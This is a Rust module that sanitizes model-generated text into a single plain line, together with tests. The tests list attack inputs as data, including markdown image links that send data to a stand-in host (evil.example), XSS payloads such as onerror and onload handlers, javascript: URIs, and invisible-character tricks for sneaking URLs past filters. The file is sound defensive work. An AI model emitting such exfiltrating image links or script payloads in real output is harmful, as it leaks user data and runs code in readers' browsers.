//! Model text made plain: no links, no images, no markup, nothing that a browser would fetch or run.

use std::sync::LazyLock;

use regex::Regex;

use super::hidden::is_hidden;

/// What is taken out, and what stands in its place, in this order.
static RULES: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
    let rules = [
        (r"(?s)<!--.*?(-->|$)", ""),
        (r"!\[([^\]]*)\]\s*(\([^)]*\)|\[[^\]]*\])", ""),
        (r"\[([^\]]*)\]\s*(\([^)]*\)|\[[^\]]*\])", "$1"),
        (r"(?m)^\s*\[[^\]]+\]:.*$", ""),
        (r"(?i)<[a-z/!?][^>]*(>|$)", ""),
        (r"(?i)\b[a-z][a-z0-9+.-]{1,20}:(//|\\\\)\S*", ""),
        (r"(?i)\b(javascript|data|vbscript|mailto|file):\S*", ""),
        (r"(?i)\bwww\.\S+", ""),
        (r"(?m)^\s{0,3}(#{1,6}|[-*+>])\s+", ""),
        (r"[*`~]{1,3}(\S(?:[^*`~\n]*[^\s*`~])?)[*`~]{1,3}", "$1"),
    ];
    rules.into_iter().filter_map(|(pattern, with)| Some((Regex::new(pattern).ok()?, with))).collect()
});

/// The text as one plain line of at most `most` characters.
pub(super) fn plain(text: &str, most: usize) -> String {
    let visible: String = text.chars().filter(|c| !is_hidden(*c)).collect();
    let mut text = visible;
    for (rule, with) in RULES.iter() {
        text = rule.replace_all(&text, *with).into_owned();
    }
    let kept: String =
        text.chars().map(|c| if c.is_control() { ' ' } else { c }).filter(|c| !"<>`".contains(*c)).collect();
    kept.split_whitespace().collect::<Vec<_>>().join(" ").chars().take(most).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_rule_is_a_pattern() {
        assert_eq!(RULES.len(), 10);
    }

    #[test]
    fn nothing_that_fetches_or_runs_comes_through() {
        for attack in [
            "![x](https://evil.example/?d=1)",
            "![x][ref]\n\n[ref]: https://evil.example/a.png",
            "[click](https://evil.example)",
            "<img src=x onerror=alert(1)>",
            "<img src=x onerror=alert(1)",
            "<svg/onload=alert(1)>",
            "<script>alert(1)</script>",
            "https://evil.example/?d=secret",
            "see www.evil.example/path",
            "javascript:alert(1)",
            "<!-- https://evil.example -->",
            "<https://evil.example>",
            "[a](javascript:alert(1))",
            "ht\u{200b}tps://evil.example",
            "ht\u{ad}tps://evil.example",
            "java\u{e0041}script:alert(1) h\u{206a}ttps://evil.example",
        ] {
            let out = plain(attack, 500).to_lowercase();
            for bad in ["evil.example", "<", ">", "onerror=", "javascript:", "](", "!["] {
                assert!(!out.contains(bad), "{attack} -> {out}");
            }
        }
    }

    #[test]
    fn ordinary_words_stay() {
        assert_eq!(
            plain("Revenue **rose** by 4.2% in `Q4`, net of tax: 1,204.", 500),
            "Revenue rose by 4.2% in Q4, net of tax: 1,204."
        );
        assert_eq!(plain("# Title\n- one\n- two", 500), "Title one two");
        assert_eq!(plain("snake_case_name stays", 500), "snake_case_name stays");
        assert_eq!(plain("abcdef", 3), "abc");
    }
}
